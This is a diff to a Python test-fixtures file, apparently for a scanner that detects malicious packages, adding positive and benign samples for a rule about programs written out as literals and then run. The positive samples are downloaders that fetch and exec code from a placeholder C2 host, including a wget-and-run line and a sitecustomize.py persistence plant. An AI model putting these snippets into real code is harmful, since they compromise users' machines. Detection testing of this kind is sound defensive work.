@@ -1036,6 +1036,80 @@ PIP_VERSION = (
     "import subprocess\nimport sys\n\nsubprocess.run([sys.executable, '-m', 'pip', '--version'])\n"
 )
 
+# A second stage written out as a literal and run, from a function nobody calls at import:
+# the program itself fetches code and runs it.
+DROPPED_DOWNLOADER = (
+    "from os import system as _run\nfrom sys import executable as _py\n"
+    "from tempfile import NamedTemporaryFile as _tmpfile\n\n\ndef fetch():\n"
+    "    _t = _tmpfile(delete=False)\n"
+    f"    _t.write(b\"from urllib.request import urlopen;exec(urlopen('{C2}').read())\")\n"
+    "    _t.close()\n"
+    "    _run(f\"start {_py.replace('.exe', 'w.exe')} {_t.name}\")\n"
+)
+# The same written with the writer's indentation kept, a download command line inside.
+DROPPED_SHELL_DOWNLOAD = """\
+import platform, subprocess
+if platform.system() == "Linux":
+    with open("/tmp/.tmp.py", "w") as f:
+        f.write(\"\"\"
+        import subprocess
+        subprocess.call("wget https://c2.example.invalid/x -O /tmp/x && python3 /tmp/x", shell=True)
+        \"\"\")
+    subprocess.call("python3 /tmp/.tmp.py &", shell=True)
+"""
+# Written line by line on one handle, and planted where every interpreter start runs it.
+DROPPED_SITECUSTOMIZE = f"""\
+import site
+
+
+def plant():
+    target = site.getsitepackages()[0] + "/sitecustomize.py"
+    with open(target, "w") as out:
+        out.write("import urllib.request\\n")
+        out.write("exec(urllib.request.urlopen('{C2}').read())\\n")
+"""
+# The same second stage run without a file: given to exec, or to a new interpreter's -c.
+EXEC_LITERAL_DOWNLOADER = (
+    "def fetch():\n"
+    f"    exec(\"import urllib.request\\nexec(urllib.request.urlopen('{C2}').read())\")\n"
+)
+INLINE_DOWNLOADER = (
+    "import subprocess, sys\n\n\ndef fetch():\n"
+    "    subprocess.Popen([sys.executable, '-c', "
+    f"\"import urllib.request;exec(urllib.request.urlopen('{C2}').read())\"])\n"
+)
+INLINE_DOWNLOADER_COMMAND_LINE = (
+    "import os\n\n\ndef fetch():\n"
+    "    os.system('python3 -c \"import urllib.request;"
+    f"exec(urllib.request.urlopen(\\'{C2}\\').read())\"')\n"
+)
+# Inline programs of build and CLI tools: the interpreter's prefix, a pip install.
+INLINE_PREFIX = (
+    "import subprocess, sys\n\n\ndef prefix():\n"
+    "    return subprocess.check_output([sys.executable, '-c', 'import sys; print(sys.prefix)'])\n"
+)
+INLINE_PIP_INSTALL = (
+    "import os\n\n\ndef bootstrap():\n"
+    "    os.system('python -c \"import subprocess, sys; "
+    "subprocess.check_call([sys.executable, \\'-m\\', \\'pip\\', \\'install\\', \\'wheel\\'])\"')\n"
+)
+# A build helper writes a script and runs it: the script only reports the Python version.
+WRITES_VERSION_SCRIPT = """\
+import subprocess, sys, tempfile
+
+
+def python_version():
+    with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as f:
+        f.write("import subprocess, sys\\nsubprocess.run([sys.executable, '--version'])\\n")
+    return subprocess.check_output([sys.executable, f.name])
+"""
+# Documentation generated with an example that downloads and runs code, never run itself.
+WRITES_EXAMPLE_DOC = f"""\
+def write_example(folder):
+    with open(folder + "/bootstrap_example.py", "w") as f:
+        f.write("import urllib.request\\nexec(urllib.request.urlopen('{C2}').read())\\n")
+"""
+
 # A builtin picked by an expression no reader can resolve, run at import time.
 BUILTIN_BY_EXPRESSION = (
     "_pick = getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-4] + 'r')\n"
@@ -1111,6 +1185,25 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
             setup_py(DROPPER),
         ],
         benign=[module(PIP_VERSION), module(WRITES_DECODED_ICON), module(CLI_SUBPROCESS)],
+    ),
+    "literal-program-run": RuleFixtures(
+        positive=[
+            module(DROPPED_DOWNLOADER),
+            module(DROPPED_SHELL_DOWNLOAD),
+            module(DROPPED_SITECUSTOMIZE),
+            setup_py(DROPPED_DOWNLOADER),
+            module(EXEC_LITERAL_DOWNLOADER),
+            module(INLINE_DOWNLOADER),
+            module(INLINE_DOWNLOADER_COMMAND_LINE),
+        ],
+        benign=[
+            module(INLINE_PREFIX),
+            module(INLINE_PIP_INSTALL),
+            module(WRITES_VERSION_SCRIPT),
+            module(WRITES_EXAMPLE_DOC),
+            module(TEMP_INTERPRETER),
+            module(DROPPER),
+        ],
     ),
     "import-process": RuleFixtures(
         positive=[module(IMPORT_GIT), module(IMPORT_CURL), startup(IMPORT_GIT)],
